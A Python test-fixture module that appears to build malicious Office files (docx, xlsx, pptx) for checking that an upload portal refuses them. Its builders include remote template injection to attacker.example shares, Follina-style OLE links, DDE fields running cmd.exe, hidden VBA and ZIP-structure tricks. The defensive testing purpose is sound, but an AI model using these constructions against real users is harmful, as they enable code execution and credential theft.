"""Office Open XML attacks: remote relationships, objects, DDE fields, hidden VBA, ZIP tricks, slide and ribbon actions.

Each builder returns the bytes of one crafted file; `ATTACKS` lists them with the error code and
French words of their refusal.
"""

import io
import os
import warnings
import zipfile

from tests.portal import upload_corpus as corpus
from tests.portal.compound_file import compound_file


def docx_remote_template() -> bytes:
    """settings.xml attaches a macro template fetched from a web server (template injection)."""
    return corpus.docx_with_template("https://templates.example/normal.dotm")


def docx_shared_folder_template() -> bytes:
    """The same, from a shared folder: the reader's computer sends its Windows credentials."""
    return corpus.docx_with_template("\\\\attacker.example\\share\\normal.dotm")


def docx_linked_ole_object() -> bytes:
    """An OLE object linked to a remote address (the Follina technique: mhtml then ms-msdt)."""
    body = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId1"/></w:object></w:r></w:p>'
    return corpus.ooxml(
        "docx",
        body=body,
        links=(("oleObject", "mhtml:https://x.example/page.html!x-usc:https://x.example/page.html", "External"),),
    )


def docx_remote_frame() -> bytes:
    """A frame loaded from a web server (webSettings.xml's frameset)."""
    return corpus.ooxml(
        "docx",
        links=(("webSettings", "webSettings.xml"),),
        parts={
            "word/webSettings.xml": (
                f"<w:webSettings {corpus.NAMESPACES}/>",
                (("frame", "https://x.example/frame.html", "External"),),
            )
        },
    )


def docx_linked_remote_image() -> bytes:
    """A picture linked, not embedded, from a shared folder: fetched as the document opens."""
    return corpus.ooxml("docx", links=(("image", "\\\\tracker.example\\pixel.png", "External"),))


def docx_embedded_ole_object() -> bytes:
    """An embedded OLE "Package" object wrapping a program."""
    package = compound_file({"\x01Ole10Native": b"\x00\x00\x00\x00" + corpus.windows_executable()})
    return corpus.ooxml(
        "docx",
        links=(("oleObject", "embeddings/oleObject1.bin"),),
        content_types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        extra_parts={"word/embeddings/oleObject1.bin": package},
    )


def docx_activex_control() -> bytes:
    """An ActiveX control part (its content type and relationship; no binary needed to be refused)."""
    return corpus.ooxml(
        "docx",
        links=(("control", "activeX/activeX1.xml"),),
        content_types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        extra_parts={
            "word/activeX/activeX1.xml": (
                '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                'ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"/>'
            )
        },
    )


def _field_runs(*instructions: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)


BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def docx_ddeauto_field_split() -> bytes:
    """DDEAUTO written over two runs ("DDE" + "AUTO …"), as Word itself may store it."""
    instructions = _field_runs("DDE", 'AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"')
    return corpus.ooxml("docx", body=f"<w:p>{BEGIN}{instructions}{SEPARATE}<w:r><w:t>1</w:t></w:r>{END}</w:p>")


def docx_dde_simple_field() -> bytes:
    return corpus.ooxml(
        "docx",
        body='<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc.exe&quot; A1"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    )


def docx_dde_command_from_quote_field() -> bytes:
    """{ {QUOTE 68 68 69 65 85 84 79} "c:\\…\\cmd.exe" }: the command is computed by a nested field."""
    inner = BEGIN + _field_runs("QUOTE 68 68 69 65 85 84 79") + END
    outer = BEGIN + inner + _field_runs(" c:\\\\Windows\\\\System32\\\\cmd.exe ") + END
    return corpus.ooxml("docx", body=f"<w:p>{outer}</w:p>")


SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'


def xlsx_dde_link() -> bytes:
    """An external link of the DDE kind: Excel asks cmd for "/c calc" as the workbook opens."""
    return corpus.ooxml(
        "xlsx",
        links=(("externalLink", "externalLinks/externalLink1.xml"),),
        extra_parts={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>'
            )
        },
    )


def xlsx_dde_formula() -> bytes:
    """A cell formula =cmd|' /c calc'!A0."""
    return corpus.ooxml(
        "xlsx",
        links=(("worksheet", "worksheets/sheet1.xml"),),
        extra_parts={
            "xl/worksheets/sheet1.xml": SHEET.format(
                rows='<row r="1"><c r="A1"><f>cmd|\' /c calc.exe\'!A0</f></c></row>'
            )
        },
    )


def docx_vba_project_renamed() -> bytes:
    """A VBA project stored as word/media/image1.png, declared through a vbaProject relationship."""
    return corpus.ooxml(
        "docx",
        links=(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/image1.png"),),
        extra_parts={"word/media/image1.png": compound_file(corpus.vba_project())},
    )


def docx_content_types_padded() -> bytes:
    """[Content_Types].xml declares a macro-enabled document after 1.2 MB of comment.

    The padding is random text, so that the part does not compress like a ZIP bomb.
    """
    padding = "<!-- " + os.urandom(900 * 1024).hex()[: 1200 * 1024] + " -->"
    return corpus.ooxml(
        "docx",
        content_types_padding=padding,
        content_types='<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    )


def _with_entries_before(clean: bytes, first: dict[str, bytes]) -> bytes:
    """`clean`'s entries after `first` ones of the same archive; the last entry under a name wins in zipfile."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name: the point here
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in first.items():
                archive.writestr(name, data)
            source = zipfile.ZipFile(io.BytesIO(clean))
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info))
    return out.getvalue()


MACRO_CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    "</Types>"
)


def docx_duplicate_content_types() -> bytes:
    """Two [Content_Types].xml entries: the first declares macros, the last one (zipfile's) is clean."""
    return _with_entries_before(corpus.docx(), {"[Content_Types].xml": MACRO_CONTENT_TYPES})


def docx_case_variant_content_types() -> bytes:
    """[content_types].xml next to [Content_Types].xml: Office compares part names without case."""
    return _with_entries_before(corpus.docx(), {"[content_types].xml": MACRO_CONTENT_TYPES})


def docx_glued_behind_another_archive() -> bytes:
    """A macro-enabled archive first, then a clean docx whose directory ends the file."""
    return corpus.docm() + corpus.docx()


def pptx_program_on_mouse_over() -> bytes:
    """A shape that runs a program when the mouse passes over it (ppaction://program)."""
    slide = (
        f"<p:sld {corpus.NAMESPACES}><p:cSld><p:spTree><p:sp><p:nvSpPr>"
        '<p:cNvPr id="2" name="Titre"><a:hlinkMouseOver r:id="rId1" action="ppaction://program"/></p:cNvPr>'
        "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"
    )
    return corpus.ooxml(
        "pptx",
        body='<p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>',
        links=(("slide", "slides/slide1.xml"),),
        parts={"ppt/slides/slide1.xml": (slide, (("hyperlink", "cmd.exe", "External"),))},
    )


def docx_ribbon_calls_remote_macro() -> bytes:
    """A custom ribbon whose onLoad calls a macro in a workbook on a shared folder."""
    return corpus.ooxml(
        "docx",
        package_links=(
            ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"),
        ),
        extra_parts={
            "customUI/customUI14.xml": (
                '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                'onLoad="\\\\attacker.example\\share\\outils.xlsm!Charger"/>'
            )
        },
    )


def docx_embedded_macro_workbook() -> bytes:
    """A macro-enabled workbook embedded as an object in the text (opens on a double-click)."""
    return corpus.ooxml(
        "docx",
        links=(("package", "embeddings/Classeur.xlsm"),),
        extra_parts={"word/embeddings/Classeur.xlsm": corpus.xlsm()},
    )


def pptx_chart_workbook_with_macros() -> bytes:
    """A chart whose embedded data workbook carries a VBA project."""
    return corpus.pptx_with_chart(corpus.xlsm())


def docx_alt_chunk() -> bytes:
    """An RTF document that Word converts into the text as it opens (RTF can carry OLE objects)."""
    return corpus.ooxml(
        "docx",
        body='<w:altChunk r:id="rId1"/>',
        links=(("aFChunk", "afchunk.rtf"),),
        content_types='<Default Extension="rtf" ContentType="application/rtf"/>',
        extra_parts={"word/afchunk.rtf": "{\\rtf1 {\\object\\objemb {\\*\\objdata 01050000}}}"},
    )


def docx_online_video_html() -> bytes:
    """An "online video" whose embedded HTML Word renders in a browser frame."""
    video = (
        '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
        'embeddedHtml="&lt;iframe src=&quot;https://x.example/&quot;&gt;&lt;/iframe&gt;" h="480" w="640"/>'
    )
    return corpus.ooxml("docx", body=f"<w:p><w:r>{video}</w:r></w:p>")


# (file name, builder, code, words of the French reason)
ATTACKS = [
    ("modele.docx", docx_remote_template, "external_link", "autre serveur"),
    ("modele-partage.docx", docx_shared_folder_template, "external_link", "autre serveur"),
    ("objet-lie.docx", docx_linked_ole_object, "embedded_object", "objet incorporé ou lié"),
    ("cadre.docx", docx_remote_frame, "external_link", "autre serveur"),
    ("image-liee.docx", docx_linked_remote_image, "external_link", "autre serveur"),
    ("objet.docx", docx_embedded_ole_object, "embedded_object", "objet OLE"),
    ("activex.docx", docx_activex_control, "embedded_object", "contrôle ActiveX"),
    ("champ.docx", docx_ddeauto_field_split, "dde", "champ ou une formule DDE"),
    ("champ-simple.docx", docx_dde_simple_field, "dde", "champ ou une formule DDE"),
    ("champ-calcule.docx", docx_dde_command_from_quote_field, "dde", "champ ou une formule DDE"),
    ("liaison.xlsx", xlsx_dde_link, "dde", "champ ou une formule DDE"),
    ("formule.xlsx", xlsx_dde_formula, "dde", "champ ou une formule DDE"),
    ("image.docx", docx_vba_project_renamed, "macro", "contient des macros"),
    ("types.docx", docx_content_types_padded, "macro", "contient des macros"),
    ("double.docx", docx_duplicate_content_types, "format", "endommagé"),
    ("casse.docx", docx_case_variant_content_types, "format", "endommagé"),
    ("colle.docx", docx_glued_behind_another_archive, "format", "endommagé"),
    ("survol.pptx", pptx_program_on_mouse_over, "active_content", "lance un programme"),
    ("ruban.docx", docx_ribbon_calls_remote_macro, "active_content", "ruban personnalisé"),
    ("classeur.docx", docx_embedded_macro_workbook, "embedded_object", "document dans le document"),
    ("graphique.pptx", pptx_chart_workbook_with_macros, "macro", "contient des macros"),
    ("fragment.docx", docx_alt_chunk, "embedded_object", "objet incorporé"),
    ("video.docx", docx_online_video_html, "active_content", "lance un programme ou un script"),
]
